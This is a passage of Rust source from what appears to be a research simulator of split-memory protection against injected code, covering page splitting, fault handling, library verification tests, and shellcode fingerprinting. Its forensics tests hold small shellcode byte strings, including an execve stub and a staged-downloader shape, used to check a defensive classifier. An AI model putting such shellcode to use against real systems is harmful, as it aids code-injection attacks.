        let mut k = Kernel::with_engine(Box::new(SplitMemEngine::new(cfg)));
        k.sys.fs.install("/lib/libok.so", lib.to_bytes());
        k.sys.fs.install("/lib/libevil.so", evil.to_bytes());

        let good = ProgramBuilder::new("/bin/good")
            .code("_start: mov ebx, 0\n call exit")
            .lib("/lib/libok.so")
            .build()
            .unwrap();
        assert!(k.spawn(&good.image).is_ok());

        let bad = ProgramBuilder::new("/bin/bad")
            .code("_start: mov ebx, 0\n call exit")
            .lib("/lib/libevil.so")
            .build()
            .unwrap();
        match k.spawn(&bad.image) {
            Err(sm_kernel::SpawnError::VerificationFailed(_)) => {}
            other => panic!("expected verification failure, got {other:?}"),
        }
        assert!(k.sys.events.iter().any(|e| matches!(
            e,
            Event::Library {
                verified: false,
                ..
            }
        )));
    }

    #[test]
    fn fork_and_cow_keep_split_pages_isolated() {
        // Parent forks; child writes to a split data page, then executes
        // cleanly; parent's copy is unaffected.
        let prog = ProgramBuilder::new("/bin/forker")
            .code(
                "_start:
                    mov eax, SYS_FORK
                    int 0x80
                    cmp eax, 0
                    je child
                    ; parent: wait for child, then check its own value
                    mov ebx, eax
                    mov eax, SYS_WAITPID
                    mov ecx, 0
                    int 0x80
                    mov eax, [shared]
                    cmp eax, 1111
                    jne bad
                    mov ebx, 0
                    call exit
                child:
                    mov dword [shared], 2222
                    mov eax, [shared]
                    cmp eax, 2222
                    jne bad
                    mov ebx, 0
                    call exit
                bad:
                    mov ebx, 1
                    call exit",
            )
            .data("shared: .word 1111")
            .build()
            .unwrap();
        let (k, pid) = run_with(
            Box::new(SplitMemEngine::stand_alone(ResponseMode::Break)),
            &prog,
        );
        assert_eq!(
            k.sys.proc(pid).exit_code,
            Some(0),
            "out: {}",
            k.sys.proc(pid).output_string()
        );
    }

    #[test]
    fn split_frames_are_freed_on_exit() {
        let prog = jump_to_data_victim();
        let mut k = Kernel::with_engine(Box::new(SplitMemEngine::stand_alone(ResponseMode::Break)));
        let free0 = k.sys.machine.phys.allocator.free_count();
        let pid = k.spawn(&prog.image).unwrap();
        k.run(20_000_000);
        // The process is a zombie: reap it by removing (tests may do this
        // directly; real parents use waitpid).
        k.sys.procs.remove(&pid.0);
        assert_eq!(
            k.sys.machine.phys.allocator.free_count(),
            free0,
            "leaked frames (split halves not freed — paper §5.4 case)"
        );
    }

    #[test]
    fn signal_handlers_work_under_split_memory() {
        // The trampoline lives on the (split) stack page: the mixed-page
        // kernel case of §5.5. The handler must actually run and return.
        let prog = ProgramBuilder::new("/bin/sig")
            .code(
                "_start:
                    mov eax, SYS_SIGNAL
                    mov ebx, 10          ; SIGUSR1
                    mov ecx, handler
                    int 0x80
                    mov eax, SYS_GETPID
                    int 0x80
                    mov ecx, 10
                    mov ebx, eax
                    mov eax, SYS_KILL
                    int 0x80             ; signal self
                    mov eax, [flag]
                    cmp eax, 77
                    jne bad
                    mov ebx, 0
                    call exit
                bad:
                    mov ebx, 1
                    call exit
                handler:
                    mov dword [flag], 77
                    ret",
            )
            .data("flag: .word 0")
            .build()
            .unwrap();
        let (k, pid) = run_with(
            Box::new(SplitMemEngine::stand_alone(ResponseMode::Break)),
            &prog,
        );
        assert_eq!(k.sys.proc(pid).exit_code, Some(0));
    }
}
