//! Split-page bookkeeping and splitting policy.
//!
//! A *split* virtual page has two physical frames: the **code frame**
//! served to instruction fetches and the **data frame** served to loads and
//! stores. The pagetable entry is marked supervisor-only plus the software
//! `SPLIT` bit (paper §5.1); which frame a given access actually reaches is
//! decided by the fault handlers in [`crate::engine`].

use sm_kernel::kernel::System;
use sm_kernel::process::Pid;
use sm_machine::pte::{Frame, PAGE_SIZE};
use std::collections::BTreeMap;

/// The two physical halves of one split virtual page.
///
/// The code half is `None` until materialised when the engine runs with
/// demand-allocated code frames (the §5.1 optimisation: "only allocating
/// a code or data page when needed").
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SplitPages {
    /// Frame instruction fetches are routed to (`None` = not yet
    /// materialised under the lazy policy).
    pub code: Option<Frame>,
    /// Frame data accesses are routed to.
    pub data: Frame,
    /// True while the code half still holds pristine filler bytes — i.e.
    /// nothing (kernel mirror, forensics planting) has written real
    /// instructions into it. Invariant checkers use this to assert the
    /// filler is untouched.
    pub filler: bool,
}

/// Per-process map of split pages, keyed by virtual page number.
///
/// Ordered (`BTreeMap`): iteration drives teardown — the order pages are
/// unsplit and their code frames released — and that order must be
/// deterministic or frame numbers (and the event/trace streams that
/// record them) diverge between otherwise identical runs.
#[derive(Debug, Default, Clone)]
pub struct SplitTable {
    pages: BTreeMap<u32, SplitPages>,
}

impl SplitTable {
    /// Empty table.
    pub fn new() -> SplitTable {
        SplitTable::default()
    }

    /// Look up a split page.
    pub fn get(&self, vpn: u32) -> Option<SplitPages> {
        self.pages.get(&vpn).copied()
    }

    /// Record a split page.
    pub fn insert(&mut self, vpn: u32, pages: SplitPages) {
        self.pages.insert(vpn, pages);
    }

    /// Remove a split page, returning its halves.
    pub fn remove(&mut self, vpn: u32) -> Option<SplitPages> {
        self.pages.remove(&vpn)
    }

    /// Update the data frame after a COW copy.
    pub fn set_data_frame(&mut self, vpn: u32, data: Frame) {
        if let Some(p) = self.pages.get_mut(&vpn) {
            p.data = data;
        }
    }

    /// Update the code frame after a COW copy or lazy materialisation.
    pub fn set_code_frame(&mut self, vpn: u32, code: Option<Frame>) {
        if let Some(p) = self.pages.get_mut(&vpn) {
            p.code = code;
        }
    }

    /// Record whether the code half still holds pristine filler bytes.
    pub fn set_filler(&mut self, vpn: u32, filler: bool) {
        if let Some(p) = self.pages.get_mut(&vpn) {
            p.filler = filler;
        }
    }

    /// Number of split pages.
    pub fn len(&self) -> usize {
        self.pages.len()
    }

    /// True if no page is split.
    pub fn is_empty(&self) -> bool {
        self.pages.is_empty()
    }

    /// Iterate over `(vpn, pages)`.
    pub fn iter(&self) -> impl Iterator<Item = (u32, SplitPages)> + '_ {
        self.pages.iter().map(|(k, v)| (*k, *v))
    }
}

/// Which pages to split (paper §4.2.1 "What to Split").
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum SplitPolicy {
    /// Split every page: stand-alone mode on hardware without the
    /// execute-disable bit — the paper's worst-case configuration.
    All,
    /// Split only pages holding both code and data; everything else is
    /// left to the execute-disable bit (combined mode, §6.2).
    MixedOnly,
    /// Split a random fraction of pages (plus all mixed ones) — the Fig. 9
    /// sweep, where "the pages to be split [are chosen] at random for the
    /// sake of performance evaluation".
    Fraction(f64),
    /// Split nothing (baseline / measurement control).
    Nothing,
}

impl SplitPolicy {
    /// Decide whether to split a page given whether it is mixed and a
    /// random draw in `[0, 1)`.
    pub fn should_split(&self, mixed: bool, draw: f64) -> bool {
        match self {
            SplitPolicy::All => true,
            SplitPolicy::MixedOnly => mixed,
            SplitPolicy::Fraction(f) => mixed || draw < *f,
            SplitPolicy::Nothing => false,
        }
    }
}

/// True if the page at `page_base` holds both executable and writable
/// content — either a writable+executable VMA, or an executable VMA and a
/// writable VMA sharing the page (paper Fig. 1b).
pub fn page_is_mixed(sys: &System, pid: Pid, page_base: u32) -> bool {
    let aspace = &sys.proc(pid).aspace;
    let end = page_base + PAGE_SIZE;
    let mut any_x = false;
    let mut any_w = false;
    for v in &aspace.vmas {
        if v.overlaps(page_base, end) {
            any_x |= v.executable();
            any_w |= v.writable();
            if v.is_mixed() {
                return true;
            }
        }
    }
    any_x && any_w
}

/// True if the page at `page_base` intersects any executable VMA (the code
/// half of a split must then carry real instructions).
pub fn page_is_executable(sys: &System, pid: Pid, page_base: u32) -> bool {
    let aspace = &sys.proc(pid).aspace;
    let end = page_base + PAGE_SIZE;
    aspace
        .vmas
        .iter()
        .any(|v| v.overlaps(page_base, end) && v.executable())
}

/// Counters for the split-memory engine.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SplitStats {
    /// Pages split.
    pub pages_split: u64,
    /// Data-TLB reloads (Algorithm 1 lines 7–11).
    pub data_reloads: u64,
    /// Instruction-TLB reloads via single-step (Algorithm 1 lines 2–5).
    pub code_reloads: u64,
    /// Data reloads that needed the single-step fallback (paper §5.2
    /// footnote 1).
    pub data_reload_fallbacks: u64,
    /// Injected-code executions detected.
    pub detections: u64,
    /// Pages locked to their data frame by observe mode.
    pub pages_locked: u64,
    /// Split pages duplicated by copy-on-write.
    pub cow_splits: u64,
    /// Code frames materialised on first fetch under the lazy policy
    /// (paper §5.1's envisioned demand-paging optimisation).
    pub lazy_materializations: u64,
    /// Pages whose split protection was degraded (unsplit, NX-only where
    /// possible) because a code-frame allocation hit out-of-memory.
    pub oom_degraded: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_crud() {
        let mut t = SplitTable::new();
        assert!(t.is_empty());
        t.insert(
            5,
            SplitPages {
                code: Some(Frame(10)),
                data: Frame(11),
                filler: false,
            },
        );
        assert_eq!(t.get(5).unwrap().code, Some(Frame(10)));
        t.set_data_frame(5, Frame(20));
        assert_eq!(t.get(5).unwrap().data, Frame(20));
        t.set_code_frame(5, Some(Frame(21)));
        assert_eq!(t.get(5).unwrap().code, Some(Frame(21)));
        assert_eq!(t.len(), 1);
        assert!(t.remove(5).is_some());
        assert!(t.remove(5).is_none());
    }

    #[test]
    fn policy_decisions() {
        assert!(SplitPolicy::All.should_split(false, 0.99));
        assert!(!SplitPolicy::Nothing.should_split(true, 0.0));
        assert!(SplitPolicy::MixedOnly.should_split(true, 0.99));
        assert!(!SplitPolicy::MixedOnly.should_split(false, 0.0));
        assert!(SplitPolicy::Fraction(0.5).should_split(false, 0.4));
        assert!(!SplitPolicy::Fraction(0.5).should_split(false, 0.6));
        // Mixed pages are always split, whatever the fraction.
        assert!(SplitPolicy::Fraction(0.0).should_split(true, 0.9));
    }
}
