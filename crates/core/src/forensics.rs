//! Attack forensics: shellcode analysis and fingerprinting (paper §4.5.3).
//!
//! "Operations such as shellcode analysis (the instruction pointer points
//! to shellcode in the data pages) or attack fingerprinting based on
//! memory contents are fully realizable and can be initiated live during a
//! previously unseen attack."
//!
//! Given the payload bytes captured at detection time, this module
//! produces a structured [`Fingerprint`]: a stable digest for matching
//! recurring attacks, a disassembly listing, the system calls the payload
//! would issue, and a coarse behavioural classification.

use crate::sha256::sha256;
use sm_machine::cpu::Reg;
use sm_machine::isa::{decode_slice, Decoded, Insn};

/// Coarse behavioural classes recognisable from static payload analysis.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PayloadClass {
    /// Calls `execve` — a shell-spawning payload.
    SpawnsProcess,
    /// Reads more code from a descriptor and transfers control onward
    /// (two-stage/downloader shape, like 7350wurm).
    StagedDownloader,
    /// Exits the process (e.g. the paper's forensic `exit(0)` payload).
    ExitsProcess,
    /// Issues other system calls.
    UsesSyscalls,
    /// Executes without any syscall in the captured window.
    Opaque,
}

impl PayloadClass {
    /// Human-readable label.
    pub fn describe(&self) -> &'static str {
        match self {
            PayloadClass::SpawnsProcess => "spawns a process (execve)",
            PayloadClass::StagedDownloader => "staged downloader (reads then jumps)",
            PayloadClass::ExitsProcess => "exits the process",
            PayloadClass::UsesSyscalls => "issues system calls",
            PayloadClass::Opaque => "no syscalls in captured window",
        }
    }
}

/// Structured analysis of a captured payload.
#[derive(Debug, Clone)]
pub struct Fingerprint {
    /// SHA-256 of the captured bytes — the stable identity used to match
    /// recurring attacks across detections.
    pub digest: [u8; 32],
    /// Leading NOP-sled length (classic exploit signature).
    pub nop_sled: usize,
    /// Disassembly of the captured bytes.
    pub listing: Vec<String>,
    /// System call numbers the payload loads into `eax` before `int 0x80`
    /// (static, best-effort).
    pub syscalls: Vec<u32>,
    /// Behavioural classification.
    pub class: PayloadClass,
}

impl Fingerprint {
    /// Hex form of the digest.
    pub fn digest_hex(&self) -> String {
        self.digest.iter().map(|b| format!("{b:02x}")).collect()
    }

    /// Multi-line report, suitable for an incident log.
    pub fn report(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!("payload sha256: {}\n", self.digest_hex()));
        out.push_str(&format!(
            "nop sled: {} bytes; class: {}\n",
            self.nop_sled,
            self.class.describe()
        ));
        if !self.syscalls.is_empty() {
            let list: Vec<String> = self.syscalls.iter().map(u32::to_string).collect();
            out.push_str(&format!("syscalls referenced: {}\n", list.join(", ")));
        }
        for line in &self.listing {
            out.push_str(&format!("  {line}\n"));
        }
        out
    }
}

/// Analyse captured payload bytes.
pub fn fingerprint(payload: &[u8]) -> Fingerprint {
    let digest = sha256(payload);
    let nop_sled = payload.iter().take_while(|b| **b == 0x90).count();
    let mut listing = Vec::new();
    let mut syscalls = Vec::new();
    let mut last_eax: Option<u32> = None;
    let mut reads_fd = false;
    let mut indirect_jump = false;
    let mut pos = 0usize;
    while pos < payload.len() {
        match decode_slice(&payload[pos..]) {
            Ok(Decoded::Insn { insn, len }) => {
                listing.push(sm_asm::format_insn(&insn));
                match insn {
                    Insn::MovRegImm(Reg::Eax, v) => last_eax = Some(v),
                    Insn::IncReg(Reg::Eax) => last_eax = Some(last_eax.unwrap_or(0) + 1),
                    Insn::Alu { reg: Reg::Eax, .. } | Insn::AluImm { .. } => {
                        // Conservative: arithmetic on eax invalidates the
                        // tracked value except the common xor-zero idiom.
                        if let Insn::Alu {
                            op: sm_machine::isa::AluOp::Xor,
                            rm: sm_machine::isa::Rm::Reg(Reg::Eax),
                            reg: Reg::Eax,
                            ..
                        } = insn
                        {
                            last_eax = Some(0);
                        }
                    }
                    Insn::Int(0x80) => {
                        if let Some(nr) = last_eax {
                            syscalls.push(nr);
                            if nr == 3 {
                                reads_fd = true;
                            }
                        }
                    }
                    Insn::Grp5 {
                        op: sm_machine::isa::Grp5Op::Jmp | sm_machine::isa::Grp5Op::Call,
                        ..
                    } => indirect_jump = true,
                    _ => {}
                }
                pos += len as usize;
            }
            Ok(Decoded::Invalid { opcode }) => {
                listing.push(format!("(bad {opcode:#04x})"));
                pos += 1;
            }
            Err(_) => {
                listing.push("(truncated)".into());
                break;
            }
        }
    }
    let class = if syscalls.contains(&11) {
        PayloadClass::SpawnsProcess
    } else if reads_fd && indirect_jump {
        PayloadClass::StagedDownloader
    } else if syscalls.contains(&1) {
        PayloadClass::ExitsProcess
    } else if !syscalls.is_empty() {
        PayloadClass::UsesSyscalls
    } else {
        PayloadClass::Opaque
    };
    Fingerprint {
        digest,
        nop_sled,
        listing,
        syscalls,
        class,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const EXIT0: &[u8] = b"\xbb\x00\x00\x00\x00\xb8\x01\x00\x00\x00\xcd\x80";

    #[test]
    fn classifies_the_papers_exit_shellcode() {
        let f = fingerprint(EXIT0);
        assert_eq!(f.class, PayloadClass::ExitsProcess);
        assert_eq!(f.syscalls, vec![1]);
        assert_eq!(f.nop_sled, 0);
        assert_eq!(f.listing[0], "mov ebx, 0x0");
    }

    #[test]
    fn classifies_execve_shellcode() {
        // mov eax, 11; int 0x80
        let sc = b"\xb8\x0b\x00\x00\x00\xcd\x80";
        let f = fingerprint(sc);
        assert_eq!(f.class, PayloadClass::SpawnsProcess);
    }

    #[test]
    fn detects_xor_zero_idiom() {
        // xor eax,eax ; inc eax ; int 0x80 → exit
        let sc = b"\x31\xc0\x40\xcd\x80";
        let f = fingerprint(sc);
        assert_eq!(f.syscalls, vec![1]);
        assert_eq!(f.class, PayloadClass::ExitsProcess);
    }

    #[test]
    fn classifies_staged_downloader() {
        // mov eax,3 (read); int 0x80; jmp esi
        let sc = b"\xb8\x03\x00\x00\x00\xcd\x80\xff\xe6";
        let f = fingerprint(sc);
        assert_eq!(f.class, PayloadClass::StagedDownloader);
    }

    #[test]
    fn counts_nop_sled() {
        let mut sc = vec![0x90; 16];
        sc.extend_from_slice(EXIT0);
        let f = fingerprint(&sc);
        assert_eq!(f.nop_sled, 16);
    }

    #[test]
    fn digest_is_stable_identity() {
        let a = fingerprint(EXIT0);
        let b = fingerprint(EXIT0);
        assert_eq!(a.digest, b.digest);
        let mut other = EXIT0.to_vec();
        other[1] ^= 1;
        assert_ne!(a.digest, fingerprint(&other).digest);
    }

    #[test]
    fn report_is_readable() {
        let r = fingerprint(EXIT0).report();
        assert!(r.contains("sha256"));
        assert!(r.contains("exits the process"));
        assert!(r.contains("int 0x80"));
    }

    #[test]
    fn garbage_bytes_are_handled() {
        let f = fingerprint(&[0x00, 0x0E, 0xFF]);
        assert_eq!(f.class, PayloadClass::Opaque);
        assert!(f.listing.iter().any(|l| l.starts_with("(bad")));
    }
}
