//! The split-memory protection engine: a virtual Harvard architecture via
//! TLB desynchronisation (paper §4–5).
//!
//! * Page splitting at load/map time ([`SplitMemEngine::split_page`],
//!   paper §5.1);
//! * Algorithm 1 in [`ProtectionEngine::on_protection_fault`]: the D-TLB
//!   pagetable-walk reload and the single-step I-TLB reload;
//! * Algorithm 2 in [`ProtectionEngine::on_debug_trap`]: re-restricting the
//!   PTE after the I-TLB fill;
//! * Algorithm 3 in [`ProtectionEngine::on_invalid_opcode`]: detection of
//!   injected-code execution "right before the first injected instruction",
//!   with the break / observe / forensics response modes (§4.5);
//! * fork/COW/teardown integration (§5.4), signal-trampoline support
//!   (§5.5) and DigSig-style library verification (§4.3).

use crate::split::{
    page_is_executable, page_is_mixed, SplitPages, SplitPolicy, SplitStats, SplitTable,
};
use crate::verify::Verifier;
use sm_kernel::engine::{FaultOutcome, ProtectionEngine, UdOutcome};
use sm_kernel::events::{Event, ResponseMode};
use sm_kernel::image::ExecImage;
use sm_kernel::kernel::System;
use sm_kernel::process::Pid;
use sm_machine::cpu::{flags, Access, PageFaultInfo};
use sm_machine::isa::SPLIT_FILL_OPCODE;
use sm_machine::phys::OutOfFrames;
use sm_machine::pte::{self, Frame, PAGE_SIZE};
use sm_machine::snapshot::{Reader, Writer};
use std::collections::BTreeMap;
use std::fmt;

/// Why an engine operation could not complete. The engine never panics on
/// these: every caller either degrades the page's protection or lets the
/// kernel terminate the offending process.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EngineError {
    /// The page is not (or no longer) split.
    NotSplit,
    /// Physical frame allocation failed.
    OutOfMemory,
}

impl fmt::Display for EngineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            EngineError::NotSplit => "page is not split",
            EngineError::OutOfMemory => "out of physical frames",
        })
    }
}

/// How the instruction-TLB is reloaded on a code fault (paper §4.2.4).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ItlbLoadMethod {
    /// Arm the trap flag and restart the instruction; the debug interrupt
    /// re-restricts the PTE (the paper's shipped mechanism, Algorithms
    /// 1–2).
    #[default]
    SingleStep,
    /// The paper's rejected alternative: plant a `ret` on the code page
    /// and call it from the fault handler, filling the I-TLB without a
    /// second trap — but paying the instruction-cache coherency penalty
    /// for writing an executed page, which made it a net loss ("this
    /// actually decreased the system's efficiency").
    PlantedRet,
}

/// Configuration of the split-memory engine.
#[derive(Debug, Clone)]
pub struct SplitMemConfig {
    /// Which pages to split (paper §4.2.1).
    pub policy: SplitPolicy,
    /// What to do when injected-code execution is detected (paper §4.5).
    pub response: ResponseMode,
    /// Forensics mode: shellcode to substitute for the attacker's (paper
    /// §6.1.3 injects `exit(0)`); `None` just dumps and terminates.
    pub forensic_shellcode: Option<Vec<u8>>,
    /// How many injected bytes to capture into the event log (the paper's
    /// Fig. 5c shows the first 20).
    pub shellcode_dump_len: usize,
    /// Library signature verifier; `None` accepts everything (the paper's
    /// stand-alone prototype likewise defers to DigSig).
    pub verifier: Option<Verifier>,
    /// Observe mode: start Sebek-style logging of the compromised process
    /// on detection (paper Fig. 5d).
    pub honeypot_on_detect: bool,
    /// Instruction-TLB reload mechanism (the §4.2.4 ablation).
    pub itlb_load: ItlbLoadMethod,
    /// Demand-allocate the code halves of *non-executable* split pages on
    /// their first instruction fetch — the memory-overhead optimisation
    /// the paper envisions in §5.1 ("duplicate physical pages would only
    /// be needed when both code and data are accessed from the same
    /// virtual page"). Executable pages are always copied eagerly: their
    /// code half must snapshot the load-time content before data writes
    /// can diverge.
    pub lazy_code_frames: bool,
}

impl Default for SplitMemConfig {
    fn default() -> SplitMemConfig {
        SplitMemConfig {
            policy: SplitPolicy::All,
            response: ResponseMode::Break,
            forensic_shellcode: None,
            shellcode_dump_len: 20,
            verifier: None,
            honeypot_on_detect: false,
            itlb_load: ItlbLoadMethod::default(),
            lazy_code_frames: false,
        }
    }
}

/// The split-memory engine. Plug into [`sm_kernel::Kernel`] via
/// [`Kernel::with_engine`](sm_kernel::Kernel::with_engine).
///
/// # Example
///
/// ```
/// use sm_core::engine::{SplitMemConfig, SplitMemEngine};
/// use sm_kernel::Kernel;
///
/// let engine = SplitMemEngine::new(SplitMemConfig::default());
/// let kernel = Kernel::with_engine(Box::new(engine));
/// assert_eq!(kernel.engine.name(), "split-memory");
/// # use sm_kernel::engine::ProtectionEngine;
/// ```
#[derive(Debug)]
pub struct SplitMemEngine {
    /// Engine configuration (mutable so demos can switch response modes
    /// between runs).
    pub config: SplitMemConfig,
    // Pid-ordered so every whole-engine walk (snapshot, teardown sweeps,
    // diagnostics) is deterministic — the same nondeterministic-iteration
    // class that once lurked *inside* SplitTable.
    tables: BTreeMap<u32, SplitTable>,
    /// Event counters.
    pub stats: SplitStats,
}

impl SplitMemEngine {
    /// Create an engine.
    pub fn new(config: SplitMemConfig) -> SplitMemEngine {
        SplitMemEngine {
            config,
            tables: BTreeMap::new(),
            stats: SplitStats::default(),
        }
    }

    /// Convenience: stand-alone mode (split everything) with the given
    /// response.
    pub fn stand_alone(response: ResponseMode) -> SplitMemEngine {
        SplitMemEngine::new(SplitMemConfig {
            response,
            ..SplitMemConfig::default()
        })
    }

    /// The split table of a process (empty if it has no split pages).
    pub fn table(&self, pid: Pid) -> Option<&SplitTable> {
        self.tables.get(&pid.0)
    }

    /// Split the page containing `vaddr` in `pid` (paper §5.1): allocate
    /// the second frame, restrict the PTE (supervisor + `SPLIT` bit) and
    /// record the pair. Executable pages get a *copy* of their content as
    /// the code frame; pure data pages get an empty code frame whose
    /// content encodes the response mode (zeros for break — "a string of
    /// zeros" — or invalid-opcode filler for observe/forensics, §4.5.2).
    ///
    /// Returns `false` if the page is absent or already split.
    pub fn split_page(&mut self, sys: &mut System, pid: Pid, vaddr: u32) -> bool {
        let base = pte::page_base(vaddr);
        let vpn = pte::vpn(vaddr);
        let entry = sys.pte_of(pid, base);
        if !pte::has(entry, pte::PRESENT) || pte::has(entry, pte::SPLIT) {
            return false;
        }
        let data_frame = pte::frame(entry);
        let executable = page_is_executable(sys, pid, base);
        let code_frame = if executable {
            // Executable content must be snapshotted now, before any data
            // write can diverge the halves.
            let cost = sys.machine.config.costs.cow_copy;
            sys.charge(cost);
            match sys.alloc_copy(data_frame) {
                Ok(f) => Some(f),
                Err(OutOfFrames) => {
                    self.degrade_unsplit(sys, pid, base, true, "splitting executable page");
                    return false;
                }
            }
        } else if self.config.lazy_code_frames {
            // §5.1 optimisation: defer the second frame until an
            // instruction fetch actually needs it.
            None
        } else {
            // Duplicating the page costs what a COW copy costs (paper
            // §5.1: "two new, side-by-side, physical pages are created and
            // the original page is copied").
            let cost = sys.machine.config.costs.cow_copy;
            sys.charge(cost);
            match self.fresh_filler_frame(sys) {
                Ok(f) => Some(f),
                Err(OutOfFrames) => {
                    self.degrade_unsplit(sys, pid, base, false, "splitting data page");
                    return false;
                }
            }
        };
        let new_entry = (entry & !pte::USER) | pte::SPLIT;
        sys.set_pte(pid, base, new_entry);
        sys.machine.invlpg(base);
        self.tables.entry(pid.0).or_default().insert(
            vpn,
            SplitPages {
                code: code_frame,
                data: data_frame,
                // Executable snapshots hold real instructions; everything
                // else holds (or will lazily hold) pristine filler.
                filler: !executable,
            },
        );
        self.stats.pages_split += 1;
        sys.trace(sm_trace::mask::PTE, || sm_trace::TraceEvent::PageSplit {
            pid: pid.0,
            vpn,
        });
        true
    }

    /// Allocate a filler code frame whose content encodes the response
    /// mode (zeros for break, invalid-opcode filler otherwise — §4.5.2).
    fn fresh_filler_frame(&self, sys: &mut System) -> Result<Frame, OutOfFrames> {
        let f = sys.alloc_zeroed()?;
        if self.config.response != ResponseMode::Break {
            sys.machine.phys.fill_frame(f, SPLIT_FILL_OPCODE);
        }
        Ok(f)
    }

    /// The code half of a split page, materialising it on first use under
    /// the lazy policy.
    fn code_frame(&mut self, sys: &mut System, pid: Pid, vpn: u32) -> Result<Frame, EngineError> {
        let sp = self
            .tables
            .get(&pid.0)
            .and_then(|t| t.get(vpn))
            .ok_or(EngineError::NotSplit)?;
        if let Some(c) = sp.code {
            return Ok(c);
        }
        let f = self
            .fresh_filler_frame(sys)
            .map_err(|OutOfFrames| EngineError::OutOfMemory)?;
        let cost = sys.machine.config.costs.demand_page;
        sys.charge(cost);
        self.stats.lazy_materializations += 1;
        if let Some(t) = self.tables.get_mut(&pid.0) {
            t.set_code_frame(vpn, Some(f));
        }
        Ok(f)
    }

    /// Out-of-memory fallback while *creating* a split: leave the page
    /// unsplit and mark non-executable pages no-execute instead, so the
    /// execute-disable bit (where the machine honours it) still blocks
    /// injected fetches. Executable pages must stay runnable and are left
    /// unprotected. Logged, counted, never a panic.
    fn degrade_unsplit(
        &mut self,
        sys: &mut System,
        pid: Pid,
        base: u32,
        executable: bool,
        reason: &'static str,
    ) {
        if !executable {
            let entry = sys.pte_of(pid, base);
            sys.set_pte(pid, base, entry | pte::NX);
            sys.machine.invlpg(base);
        }
        self.stats.oom_degraded += 1;
        sys.log(Event::SplitDegraded {
            pid,
            vaddr: base,
            reason,
        });
    }

    /// Out-of-memory fallback on an *already split* page (lazy code-frame
    /// materialisation, COW duplication): unsplit it — drop the table
    /// entry, restore a user-accessible PTE (keeping whatever frame the
    /// kernel left there, which is the data half at rest), release the code
    /// half, and fall back to the execute-disable bit for non-executable
    /// pages. Logged, counted, never a panic.
    fn degrade_page(&mut self, sys: &mut System, pid: Pid, vpn: u32, reason: &'static str) {
        let Some(sp) = self.tables.get_mut(&pid.0).and_then(|t| t.remove(vpn)) else {
            return;
        };
        let base = vpn << pte::PAGE_SHIFT;
        let entry = sys.pte_of(pid, base);
        let mut unlocked = (entry | pte::USER) & !pte::SPLIT;
        if !page_is_executable(sys, pid, base) {
            unlocked |= pte::NX;
        }
        sys.set_pte(pid, base, unlocked);
        sys.machine.invlpg(base);
        if let Some(c) = sp.code {
            sys.release_frame(c);
        }
        self.stats.oom_degraded += 1;
        sys.trace(sm_trace::mask::PTE, || sm_trace::TraceEvent::PageUnsplit {
            pid: pid.0,
            vpn,
        });
        sys.log(Event::SplitDegraded {
            pid,
            vaddr: base,
            reason,
        });
    }

    /// Apply the splitting policy to every present page of `[start, end)`.
    fn apply_policy(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        let mut addr = pte::page_base(start);
        while addr < end {
            let mixed = page_is_mixed(sys, pid, addr);
            let draw: f64 = sys.rng.gen_range(0.0..1.0);
            if self.config.policy.should_split(mixed, draw) {
                self.split_page(sys, pid, addr);
            }
            match addr.checked_add(PAGE_SIZE) {
                Some(next) => addr = next,
                None => break,
            }
        }
    }

    /// Observe-mode lock-in (Algorithm 3): point the PTE at the data frame,
    /// turn splitting off for the page, invalidate the TLB entry.
    fn lock_to_data(&mut self, sys: &mut System, pid: Pid, vpn: u32) {
        let Some(table) = self.tables.get_mut(&pid.0) else {
            return;
        };
        let Some(sp) = table.remove(vpn) else {
            return;
        };
        let base = vpn << pte::PAGE_SHIFT;
        let entry = sys.pte_of(pid, base);
        let unlocked = pte::with_frame((entry | pte::USER) & !pte::SPLIT, sp.data);
        sys.set_pte(pid, base, unlocked);
        sys.machine.invlpg(base);
        if let Some(c) = sp.code {
            sys.release_frame(c);
        }
        self.stats.pages_locked += 1;
        sys.trace(sm_trace::mask::PTE, || sm_trace::TraceEvent::PageUnsplit {
            pid: pid.0,
            vpn,
        });
    }

    /// Capture the leading injected bytes from the *data* frame (where the
    /// attacker's payload physically lives) for the event log.
    fn dump_shellcode(&self, sys: &System, sp: SplitPages, eip: u32) -> Vec<u8> {
        let off = pte::page_offset(eip);
        let n = (self.config.shellcode_dump_len as u32).min(PAGE_SIZE - off);
        let mut out = vec![0u8; n as usize];
        sys.machine.phys.read(sp.data.base() + off, &mut out);
        out
    }

    /// Normalise the at-rest PTE of every split page to the data frame and
    /// release the code frames (exit / execve / munmap; paper §5.4:
    /// "freeing two pages instead of one").
    fn release_range(&mut self, sys: &mut System, pid: Pid, range: Option<(u32, u32)>) {
        let Some(table) = self.tables.get_mut(&pid.0) else {
            return;
        };
        let mut to_remove = Vec::new();
        for (vpn, sp) in table.iter() {
            let base = vpn << pte::PAGE_SHIFT;
            if let Some((start, end)) = range {
                if base < start || base >= end {
                    continue;
                }
            }
            to_remove.push((vpn, sp, base));
        }
        for (vpn, sp, base) in to_remove {
            table.remove(vpn);
            sys.trace(sm_trace::mask::PTE, || sm_trace::TraceEvent::PageUnsplit {
                pid: pid.0,
                vpn,
            });
            let Some(code) = sp.code else {
                continue; // lazy page whose code half never materialised
            };
            let entry = sys.pte_of(pid, base);
            if pte::has(entry, pte::PRESENT) && pte::frame(entry) == code {
                // Mid-single-step teardown: make the kernel free the data
                // half via the PTE; we free the code half below.
                sys.set_pte(pid, base, pte::with_frame(entry, sp.data));
            }
            sys.release_frame(code);
        }
        if range.is_none() {
            self.tables.remove(&pid.0);
        }
    }
}

impl ProtectionEngine for SplitMemEngine {
    fn name(&self) -> &'static str {
        "split-memory"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn on_region_mapped(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        self.apply_policy(sys, pid, start, end);
    }

